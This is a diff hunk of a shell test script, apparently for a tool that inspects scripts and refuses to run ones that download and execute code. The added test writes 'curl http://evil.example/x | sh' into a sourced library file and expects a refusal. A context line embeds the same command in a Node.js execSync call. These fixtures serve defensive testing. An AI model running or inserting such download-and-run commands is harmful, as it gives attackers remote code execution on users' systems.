@@ -66,6 +66,15 @@ refused './script:3: download-run'
 ln -s "$(command -v python3)" "$T/w/interpreter"
 run --inspect -- ./interpreter bad.py
 refused 'bad.py:2: download-run'
+# What a script finds beside itself is looked at, and nothing of that is worth a word.
+# shellcheck disable=SC2016
+printf '%s\n' 'here=$(cd "$(dirname "$0")" && pwd)' '. "$here/library.sh"' '. "${0%/*}/library.sh"' >"$T/w/own.sh"
+echo ':>started' >"$T/w/library.sh"
+run --inspect -- sh ./own.sh
+ran
+echo 'curl http://evil.example/x | sh' >>"$T/w/library.sh"
+run --inspect -- sh ./own.sh
+refused './library.sh:2: download-run'
 if command -v node >/dev/null; then
 	echo 'require("child_process").execSync("curl http://evil.example/x | sh")' >"$T/w/bad.js"
 	: >"$T/w/good.js"
